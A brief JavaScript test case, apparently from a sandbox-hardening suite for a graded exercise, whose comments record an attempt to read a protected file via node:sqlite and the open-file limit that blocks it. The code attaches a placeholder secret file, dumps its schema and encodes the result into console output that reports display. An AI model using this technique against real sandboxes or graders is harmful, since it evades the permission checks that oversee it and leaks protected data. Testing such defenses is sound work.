// tries: to read it through SQLite, which Node's permissions don't cover
// stopped by: the limit of open files, which is 0 once Node runs; in a namespace the path isn't there
// exercise: 02-activations/relu
/** What was found goes out as console text, which reports show. */
function show(text) {
  const units = Buffer.from(String(text).slice(0, 2000), "utf16le");
  const size = Buffer.alloc(4);
  size.writeUInt32LE(units.length / 2);
  replies.load = [4, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, ...size, ...units];
}
show((() => { const { DatabaseSync } = require("node:sqlite"); const db = new DatabaseSync(":memory:"); db.exec("ATTACH '__SECRET_FILE__' AS other"); return JSON.stringify(db.prepare("SELECT * FROM other.sqlite_master").all()); })());
